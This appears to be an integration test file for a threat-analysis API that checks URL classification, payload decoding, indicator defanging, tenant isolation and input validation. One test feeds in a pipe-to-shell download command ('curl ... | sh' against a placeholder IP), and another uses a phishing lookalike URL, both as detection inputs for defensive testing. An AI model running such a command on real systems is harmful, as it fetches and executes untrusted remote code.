"""Threat analysis through the gateway: analyse, list, read, tenant isolation, malformed input."""

from __future__ import annotations

import httpx2 as httpx

from tests.integration.conftest import assert_refused, bearer, register


def test_a_url_is_analysed_stored_listed_and_read(api: httpx.Client) -> None:
    account = register(api)
    headers = bearer(account["api_key"])
    reply = api.post(
        "/api/v1/threats/analyze",
        json={"target": "hxxp://paypa1-secure-login[.]xyz/webscr/verify.php", "metadata": {"case": "42"}},
        headers=headers,
    )
    assert reply.status_code == 201, reply.text
    analysis = reply.json()["data"]
    assert (analysis["type"], analysis["normalized"]) == (
        "url",
        "http://paypa1-secure-login.xyz/webscr/verify.php",
    )
    assert analysis["classification"] == "malicious"
    assert analysis["risk_score"] == min(100, sum(r["weight"] for r in analysis["reasons"]))
    assert "T1583.001" in analysis["attack"]
    assert analysis["metadata"] == {"case": "42"}
    listed = api.get("/api/v1/threats/analyses", headers=headers).json()["data"]["items"]
    assert [a["analysis_id"] for a in listed] == [analysis["analysis_id"]]
    read = api.get(f"/api/v1/threats/analyses/{analysis['analysis_id']}", headers=headers).json()["data"]
    assert read["reasons"] == analysis["reasons"]


def test_a_payload_is_decoded_and_its_indicators_extracted_defanged(api: httpx.Client) -> None:
    headers = bearer(register(api)["api_key"])
    payload = "curl -s http://192.0.2.44/x.sh | sh"
    reply = api.post("/api/v1/threats/analyze", json={"target": payload, "mode": "deep"}, headers=headers)
    data = reply.json()["data"]
    assert data["type"] == "payload"
    assert "yara:download_cradle" in {r["signal"] for r in data["reasons"]}
    assert {"type": "url", "value": "http://192.0.2.44/x.sh", "defanged": "hxxp://192[.]0[.]2[.]44/x[.]sh",
            "found_in": "payload"} in data["indicators"]  # fmt: skip


def test_another_tenant_gets_404_and_an_empty_list(api: httpx.Client) -> None:
    alice, bob = register(api), register(api)
    made = api.post(
        "/api/v1/threats/analyze", json={"target": "example.com"}, headers=bearer(alice["api_key"])
    )
    analysis_id = made.json()["data"]["analysis_id"]
    reply = api.get(f"/api/v1/threats/analyses/{analysis_id}", headers=bearer(bob["api_key"]))
    assert_refused(reply, 404, "NOT_FOUND")
    assert api.get("/api/v1/threats/analyses", headers=bearer(bob["api_key"])).json()["data"]["items"] == []


def test_a_malformed_indicator_is_400_invalid_indicator(api: httpx.Client) -> None:
    headers = bearer(register(api)["api_key"])
    for body in ({"target": "999.1.1.1"}, {"target": "not an address", "type": "ip"}, {"target": "http://"}):
        reply = api.post("/api/v1/threats/analyze", json=body, headers=headers)
        assert_refused(reply, 400, "INVALID_INDICATOR")
